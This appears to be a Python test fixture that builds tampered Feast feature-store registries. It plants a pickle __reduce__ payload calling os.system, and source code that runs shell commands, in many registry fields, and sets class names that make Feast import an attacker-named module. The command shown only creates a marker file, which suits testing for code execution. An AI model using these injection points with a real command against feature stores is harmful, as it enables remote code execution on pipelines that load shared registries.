"""Malicious Feast registries, as an attacker could write them to a bucket."""

import os
import pickle

CLASS = "feast.infra.offline_stores.file_source.FileSource"


class Payload:
    """Creates a file when it is unpickled."""

    def __init__(self, marker):
        self._marker = str(marker)

    def __reduce__(self):
        return os.system, (f"touch {self._marker}",)


def _function(message, marker, mode=None):
    message.name = "planted"
    message.body = pickle.dumps(Payload(marker))
    # Feast executes the source first.
    message.body_text = f"import os\nos.system('touch {marker}')\ndef planted(rows):\n return rows"
    if mode:
        message.mode = mode


def _on_demand(mode):
    def add(registry, marker):
        view = registry.on_demand_feature_views.add()
        view.spec.name, view.spec.project, view.spec.mode = "planted", "mammo", mode
        _function(view.spec.feature_transformation.user_defined_function, marker, mode)

    return add


def on_demand_of_old_versions(registry, marker):
    view = registry.on_demand_feature_views.add()
    view.spec.name, view.spec.project = "planted", "mammo"
    _function(view.spec.user_defined_function, marker)


def on_demand_substrait(registry, marker):
    view = registry.on_demand_feature_views.add()
    view.spec.name, view.spec.project, view.spec.mode = "planted", "mammo", "substrait"
    plan = view.spec.feature_transformation.substrait_transformation
    plan.ibis_function = pickle.dumps(Payload(marker))


def stream_view(registry, marker):
    view = registry.stream_feature_views.add()
    view.spec.name, view.spec.project, view.spec.mode = "planted", "mammo", "pandas"
    _function(view.spec.user_defined_function, marker)


def stream_view_transformed(registry, marker):
    view = registry.stream_feature_views.add()
    view.spec.name, view.spec.project, view.spec.mode = "planted", "mammo", "pandas"
    _function(view.spec.feature_transformation.user_defined_function, marker, "pandas")


def batch_view(registry, marker):
    """A function in one of our views."""
    spec = registry.feature_views[0].spec
    spec.mode = "python"
    _function(spec.feature_transformation.user_defined_function, marker, "python")


def view_of_views(registry, marker):
    source = registry.feature_views[0].spec.source_views.add()
    _function(source.feature_transformation.user_defined_function, marker, "python")


def earlier_version(registry, marker):
    """A function in an earlier version of a view, which is stored as bytes."""
    from feast.protos.feast.core.FeatureView_pb2 import FeatureView

    record = registry.feature_view_version_history.records[0]
    view = FeatureView.FromString(record.feature_view_proto)
    _function(view.spec.feature_transformation.user_defined_function, marker, "python")
    record.feature_view_proto = view.SerializeToString()


def earlier_on_demand(registry, marker):
    record = registry.feature_view_version_history.records[0]
    record.feature_view_type = "on_demand_feature_view"


def stream_source(registry, marker):
    source = registry.feature_views[0].spec.stream_source
    source.name, source.type = "planted", source.CUSTOM_SOURCE
    source.data_source_class_type = "planted.Source"


def nested_source(registry, marker):
    source = registry.data_sources[0].batch_source
    source.name, source.type = "planted", source.CUSTOM_SOURCE
    source.data_source_class_type = "planted.Source"


def custom_source(registry, marker):
    """Feast imports the module in the class name of a source."""
    source = registry.data_sources.add()
    source.name, source.type = "planted", source.CUSTOM_SOURCE
    source.data_source_class_type = "planted.Source"
    source.custom_options.configuration = pickle.dumps(Payload(marker))


def class_of_a_source(registry, marker):
    registry.data_sources[0].data_source_class_type = "planted.Source"


def kind_of_a_source(registry, marker):
    source = registry.feature_views[0].spec.batch_source
    source.type = source.CUSTOM_SOURCE


def profiler(registry, marker):
    reference = registry.validation_references.add()
    reference.name, reference.project = "planted", "mammo"
    reference.ge_profiler.profiler.body = pickle.dumps(Payload(marker))


def saved_dataset(registry, marker):
    dataset = registry.saved_datasets.add()
    dataset.spec.name = "planted"
    dataset.spec.storage.custom_storage.configuration = b"planted"


def infrastructure(registry, marker):
    registry.infra.infra_objects.add().infra_object_class_type = "planted.Table"


def feature_service(registry, marker):
    service = registry.feature_services.add()
    service.spec.name, service.spec.project = "planted", "mammo"
    source = service.spec.features.add().batch_source
    source.data_source_class_type = "planted.Source"


def permission(registry, marker):
    registry.permissions.add().spec.name = "planted"


def label_view(registry, marker):
    view = registry.label_views.add()
    view.spec.source.data_source_class_type = "planted.Source"


ADDITIONS = {
    **{f"on_demand_{mode}": _on_demand(mode) for mode in ("pandas", "python", "ray", "spark")},
    **{
        addition.__name__: addition
        for addition in (
            on_demand_of_old_versions,
            on_demand_substrait,
            stream_view,
            stream_view_transformed,
            batch_view,
            view_of_views,
            earlier_version,
            earlier_on_demand,
            stream_source,
            nested_source,
            custom_source,
            class_of_a_source,
            kind_of_a_source,
            profiler,
            saved_dataset,
            infrastructure,
            feature_service,
            permission,
            label_view,
        )
    },
}


def malicious_registry(registry, name, marker):
    """Return a serialized registry with one of the additions; its code creates the marker file."""
    from feast.protos.feast.core.Registry_pb2 import Registry

    message = Registry.FromString(registry)
    ADDITIONS[name](message, marker)
    return message.SerializeToString()
